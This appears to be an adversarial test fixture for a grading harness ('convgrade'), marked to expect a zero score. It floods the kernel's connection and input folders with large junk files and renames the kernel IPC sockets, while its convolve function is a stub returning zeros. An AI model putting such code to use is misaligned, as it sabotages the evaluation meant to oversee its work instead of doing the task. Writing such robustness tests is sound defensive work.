"""Writes into the kernel's connection folder and socket folder, and replaces the sockets."""

# base: release
# expect: zero
# %% convolve
import glob
import os

_args = open("/proc/self/cmdline", "rb").read().split(b"\0")
_folders = [os.path.dirname(a.decode()) for a in _args if a.endswith(b".json")]
_folders += ["/tmp/convgrade/ipc", "/tmp/convgrade/input"] + glob.glob("/tmp/convgrade-*")
_written = {}
for _folder in _folders:
    _total = 0
    try:
        for _index in range(100):
            with open(os.path.join(_folder, f"flood-{_index}"), "wb") as _file:
                _file.write(b"x" * (8 << 20))
            _total += 8
    except OSError as _error:
        print(_folder, _error)
    _written[_folder] = _total
print("MiB written:", _written)
for _socket in glob.glob("/tmp/convgrade/ipc/kernel-*"):
    try:
        os.replace(_socket, _socket + ".moved")
    except OSError as _error:
        print(_socket, _error)


def convolve(image, kernel):
    return np.zeros((1, 1))
